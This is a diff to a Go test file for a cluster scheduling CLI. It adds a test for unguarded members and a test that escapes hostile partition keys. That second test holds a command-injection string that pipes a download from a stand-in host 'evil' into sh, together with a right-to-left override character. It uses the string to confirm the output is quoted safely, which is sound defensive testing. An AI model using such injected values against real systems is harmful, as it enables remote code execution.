@@ -117,6 +117,37 @@ func TestStatusOfTheDead(t *testing.T) {
 	}
 }
 
+// TestStatusNamesTheUnguarded: who looks sees which members would cost the others a TTL, and why.
+func TestStatusNamesTheUnguarded(t *testing.T) {
+	w := newWritten(t, nil)
+	say := func(member, guardian string) {
+		w.put("pulse/"+member+"/1", map[string]any{"member": member, "at_ms": time.Now().Add(time.Hour).UnixMilli(), "ttl_ms": 300, "guardian": guardian})
+	}
+	say("a", "on")
+	say("b", "not needed")
+	w.shows("status", exitOK, "members 2 · tasks")
+	w.shows("members", exitOK, "GUARDIAN", "on", "not needed")
+	say("b", "none: not supported on this system")
+	w.shows("status", exitOK, "members 2 (1 without a guardian: b)")
+	w.shows("members", exitOK, "none: not supported on this system")
+}
+
+// TestHostileNames: a key that somebody else has chosen is one word of the command that is suggested, and reaches no terminal as it is.
+func TestHostileNames(t *testing.T) {
+	const key = "a; curl evil|sh \u202e#gpj"
+	spec := one(cluster.SpreadPartitioned)
+	spec.Tasks[0].Partitions, spec.Tasks[0].Pin = []string{key}, "nobody"
+	w := newWritten(t, map[cluster.JobID]cluster.JobSpec{"x": spec})
+	w.alive()
+	w.shows("status", exitOK, `rota why $'x#a; curl evil|sh \342\200\256#gpj' --store file:store`)
+	for _, command := range [][]string{{"status"}, {"status", "--json"}, {"tasks"}, {"why", "x#" + key}, {"why", "x"}, {"why", "y#" + key}, {"journal"}} {
+		out, errs, _ := w.rota(append(command, "--store", "file:store")...)
+		if strings.Contains(out+errs, "\u202e") {
+			t.Errorf("rota %q shows it as it is:\n%s%s", command, out, errs)
+		}
+	}
+}
+
 // Whoever renews its heartbeat lives, whatever its clock says; one look takes a young heartbeat for a sign of life, --check does not.
 func TestCheckLooksForASecondHeartbeat(t *testing.T) {
 	w := newWritten(t, map[cluster.JobID]cluster.JobSpec{"x": one(cluster.SpreadEvery)})
